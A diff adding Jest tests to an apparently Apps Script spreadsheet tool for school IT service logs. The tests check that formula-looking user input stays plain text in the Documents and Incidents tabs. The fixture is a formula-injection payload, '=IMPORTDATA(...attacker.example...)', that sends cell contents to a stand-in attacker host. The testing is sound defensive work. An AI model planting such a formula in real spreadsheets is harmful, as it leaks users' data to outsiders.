@@ -184,6 +184,78 @@ describe('item 5: user text reaches cells as text, never as a formula', () => {
   });
 });
 
+describe('item 5: one text-safe writer', () => {
+  const attack = '=IMPORTDATA("https://attacker.example/?"&A1)';
+
+  test('the runtime reads text written into a cell that is not plain text as Sheets does: "=…" becomes a live formula', () => {
+    // Range.setValue: "If it begins with '=' it is interpreted as a formula" (offline/README.md, rule 9).
+    const rt = school();
+    const sheet = (rt.spreadsheet as unknown as Ss).insertSheet('Scratch');
+    sheet.getRange(1, 1).setValues([[attack]]);
+    expect(sheet.getRange(1, 1).getFormula()).toBe(attack);
+    sheet.getRange(2, 1).setNumberFormat('@').setValue(attack);
+    expect(sheet.getRange(2, 1).getFormula()).toBe('');
+  });
+
+  test('formula-looking user text reaches the Documents tab as text at row 1,500 and after a format reset, and recalculation leaves it text', () => {
+    const { recalculateRuntime } = require('../../offline/recalcRuntime') as typeof import('../../offline/recalcRuntime');
+    const rt = school();
+    const ss = rt.spreadsheet as unknown as Ss;
+    // A Service ID and an SLA Version as a hostile user types them (the cells are plain text, so they are text here).
+    ss.getSheetByName('Services')!.getRange(2, 1).setValue(attack);
+    ss.getSheetByName('SLA')!.getRange(2, 1, ss.getSheetByName('SLA')!.getLastRow() - 1, 1).setValue(attack);
+    setCell(rt, 'SLA', 2, 'Version', attack);
+    const docs = ss.getSheetByName('Documents')!;
+    const row = (r: number) => ({ values: docs.getRange(r, 1, 1, docs.getLastColumn()).getValues()[0], formulas: docs.getRange(r, 1, 1, docs.getLastColumn()).getFormulas()[0] });
+    const contents = docs.getRange(1, 1, 1, docs.getLastColumn()).getValues()[0].indexOf('Contents');
+    // Inside the rows Set up formatted as plain text: the text exactly as typed (no apostrophe shows).
+    rt.global.generateSla(null);
+    expect(docs.getRange(docs.getLastRow(), contents + 1).getValue()).toMatch(/^=IMPORTDATA\(/);
+    // Then rows up to 1,499 in use: the next document's row is 1,500, far past the rows Set up formatted.
+    docs.insertRowsAfter(docs.getMaxRows(), 600);
+    docs.getRange(docs.getLastRow() + 1, 1, 1499 - docs.getLastRow(), 1).setValue('Earlier document');
+    rt.global.generateSla(null);
+    expect(docs.getLastRow()).toBe(1500);
+    expect(row(1500).formulas).toEqual(row(1500).formulas.map(() => ''));
+    expect(String(row(1500).values[contents]).startsWith(attack)).toBe(true);
+
+    // A format reset on the whole tab: the next row is text all the same.
+    docs.getRange(1, 1, docs.getMaxRows(), docs.getMaxColumns()).setNumberFormat('General');
+    rt.global.generateSla(null);
+    expect(row(1501).formulas).toEqual(row(1501).formulas.map(() => ''));
+    expect(String(row(1501).values[contents]).startsWith(attack)).toBe(true);
+
+    // Sheets' recalculation finds no formula there: the cells keep their text.
+    const problems = recalculateRuntime(rt, NOW);
+    expect(problems.filter((p) => p.tab === 'Documents')).toEqual([]);
+    expect(String(row(1500).values[contents]).startsWith(attack)).toBe(true);
+    expect(docs.getDataRange().getFormulas().flat().filter((f: string) => f !== '')).toEqual([]);
+  });
+
+  test('a call logged through the form lands as text at row 1,200 with the log\'s formats reset', () => {
+    const rt = school();
+    const ss = rt.spreadsheet as unknown as Ss;
+    rt.global.createCallForm();
+    const form = [...rt.services.FormApp.forms.values()][0];
+    const log = ss.getSheetByName('Incidents')!;
+    log.insertRowsAfter(log.getMaxRows(), 400);
+    log.getRange(log.getLastRow() + 1, 1, 1199 - log.getLastRow(), 1).setValue('Not a call');
+    log.getRange(2, 1, log.getMaxRows() - 1, log.getMaxColumns()).setNumberFormat('General');
+    const response = form.createResponse();
+    const answers: Record<string, string> = { 'Which service is it about?': 'Printing', 'What do you need?': 'Something is broken or not working',
+      'How bad is it?': 'I cannot work', 'What happened, or what do you need?': attack, 'Your name': '+44 7700 900123' };
+    for (const item of form.getItems()) if (answers[item.getTitle()] !== undefined) response.withItemResponse(item.createResponse(answers[item.getTitle()]));
+    response.submit();
+    const sheet = form.destination!;
+    const range = sheet.getRange(sheet.getLastRow(), 1, 1, sheet.getLastColumn());
+    rt.fireTrigger('onCallLogged', { range, values: range.getDisplayValues()[0], namedValues: {} });
+    expect(log.getLastRow()).toBe(1200);
+    const summary = log.getRange(1, 1, 1, log.getLastColumn()).getValues()[0].indexOf('Summary') + 1;
+    expect(log.getRange(1200, 1, 1, log.getLastColumn()).getFormulas()[0].filter((f: string) => f !== '')).toEqual([]);
+    expect(String(log.getRange(1200, summary).getValue())).toBe(`${attack} (from +44 7700 900123, service.manager@school.example)`);
+  });
+});
+
 describe('item 7: named ranges grow with the tabs', () => {
   test('the Dashboard counts incidents past row 1,000: every row the log holds, not the first 999', () => {
     const { exampleWithFormulas } = require('../support/formulas') as typeof import('../support/formulas');
